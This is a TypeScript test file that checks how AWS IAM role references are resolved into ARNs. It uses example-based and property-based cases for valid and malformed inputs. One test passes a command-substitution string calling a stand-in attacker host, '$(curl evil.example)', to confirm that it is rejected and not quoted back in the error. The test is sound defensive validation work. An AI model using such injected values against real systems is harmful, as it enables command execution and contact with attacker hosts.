import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { shortRoleName } from '../../../../lambda/decide/guard.ts';
import { resolveRoleReference } from '../../../../lambda/decide/role-reference.ts';

const BASE = 'arn:aws:iam::123456789012:role/';

describe('a reference', () => {
  it.each([
    ['orders', `${BASE}orders`],
    ['Orders_+=,.@-1', `${BASE}Orders_+=,.@-1`],
    ['team/orders', `${BASE}team/orders`],
    ['/team/orders', `${BASE}team/orders`],
    ['a/b!c/d~/orders', `${BASE}a/b!c/d~/orders`],
    ['o'.repeat(64), `${BASE}${'o'.repeat(64)}`],
    ['arn:aws:iam::999999999999:role/orders', 'arn:aws:iam::999999999999:role/orders'],
    [
      'arn:aws-cn:iam::123456789012:role/a/b/Orders',
      'arn:aws-cn:iam::123456789012:role/a/b/Orders',
    ],
    ['arn:aws-us-gov:iam::123456789012:role/x', 'arn:aws-us-gov:iam::123456789012:role/x'],
    ['arn:aws-iso-b:iam::123456789012:role/x', 'arn:aws-iso-b:iam::123456789012:role/x'],
  ])('%s resolves to %s', (reference, roleArn) => {
    expect(resolveRoleReference(BASE, reference)).toEqual({ roleArn });
  });

  it.each([
    undefined,
    '',
    '/',
    'team/',
    '//orders',
    'team//orders',
    'o'.repeat(65),
    'with space',
    'new\nline',
    'órders',
    'orders*',
    `${'p'.repeat(512)}/orders`,
    'x/'.repeat(10_000),
    'arn:',
    'arn:aws:iam::123456789012:user/orders',
    'arn:aws:iam::123456789012:role/',
    'arn:aws:iam::12345678901:role/orders',
    'arn:aws:sts::123456789012:assumed-role/orders/x',
    'arn:gcp:iam::123456789012:role/orders',
    ` ${BASE}orders`,
    `${BASE}orders\n`,
    `${BASE}${'p'.repeat(512)}/orders`,
  ])('%j is malformed', (reference) => {
    const { roleArn, ...rest } = resolveRoleReference(BASE, reference);
    expect(roleArn).toBeUndefined();
    expect(rest).toMatchObject({ message: expect.stringContaining('spec.roleReference') });
  });

  it('is not quoted in the error', () => {
    const { message } = resolveRoleReference(BASE, '$(curl evil.example)') as { message: string };
    expect(message).not.toContain('evil');
  });

  it('of any text resolves to an ARN that STS accepts, or is malformed', () => {
    const segment = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('a', 'role', '..', '*'),
    );
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 700 }),
      fc.array(segment, { maxLength: 40 }).map((segments) => segments.join('/')),
      fc.array(segment, { maxLength: 40 }).map((segments) => BASE + segments.join('/')),
    );
    fc.assert(
      fc.property(text, (reference) => {
        const { roleArn } = resolveRoleReference(BASE, reference);
        if (roleArn === undefined) return;
        expect(roleArn).toMatch(/^arn:aws[a-z-]*:iam::\d{12}:role\/[!-~]+$/);
        expect(roleArn.length).toBeLessThanOrEqual(31 + 512 + 64);
        expect(roleArn).not.toContain('//');
        // The name in annotations resolves to the same role.
        const name = shortRoleName(BASE, roleArn);
        expect(resolveRoleReference(BASE, name)).toEqual({ roleArn });
      }),
      { numRuns: 2_000 },
    );
  });
});
